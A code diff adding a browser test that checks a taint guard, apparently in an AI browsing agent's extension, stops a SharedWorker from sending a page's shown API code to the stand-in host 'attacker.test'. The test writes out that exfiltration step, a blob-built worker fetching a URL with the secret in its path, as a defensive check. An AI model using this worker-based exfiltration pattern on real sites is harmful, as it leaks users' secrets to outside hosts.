@@ -278,6 +278,37 @@ test.describe('the taint with guard scope task-tabs, no MAIN-world hooks', () =>
   });
 });
 
+/**
+ * Reading open to every site (`domains: null`), guard scope all-tabs: a worker of a site the task does not
+ * name (tab −1, initiator reader.test) is inside the guard's worker scope, so the taint's unscoped dynamic
+ * rules apply to it and no out-of-scope allow lifts them. The same worker's request without the secret
+ * arrives: only the taint stops the other.
+ */
+test.describe('the taint on a worker of an unnamed site, reading open, no MAIN-world hooks', () => {
+  test('a SharedWorker of the page cannot carry the shown code to attacker.test; its request without the code arrives', async () => {
+    test.setTimeout(90_000);
+    const browser = await launch('nohooks');
+    try {
+      await browser.setPolicy({ ...READ_ONLY, taskId: 'floor-exfil-open-reading', domains: null });
+      const id = `openread${++caseNumber}`;
+      const secret = newSecret();
+      server.setPage(`/show/${id}`, `<!doctype html><title>${id}</title><p>Your API key: <code>${secret.key}</code></p><p>Sign-in code: ${secret.code}</p>`);
+      const page = await browser.context.newPage();
+      await page.goto(`${server.origin('reader.test')}/show/${id}`);
+      await taintRecorded(browser, secret);
+      await page.evaluate((urls) => {
+        const src = urls.map((u) => `fetch(${JSON.stringify(u)}).catch(() => {});`).join('\n');
+        new SharedWorker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
+      }, [`${server.origin(ATTACKER)}/${id}/plain/hello`, `${server.origin(ATTACKER)}/${id}/secret/${secret.code}`]);
+      await server.waitFor(`/${id}/plain/`, ATTACKER, 2 * QUIET_MS);
+      await sleep(QUIET_MS);
+      expect(server.hits(`/${id}/secret/`, ATTACKER), 'the worker carried the shown code to attacker.test').toHaveLength(0);
+    } finally {
+      await browser.close();
+    }
+  });
+});
+
 test.describe('the taint across a worker restart, no MAIN-world hooks', () => {
   test('after the worker restarts, the floor still refuses the secret the page showed', async () => {
     test.setTimeout(90_000);
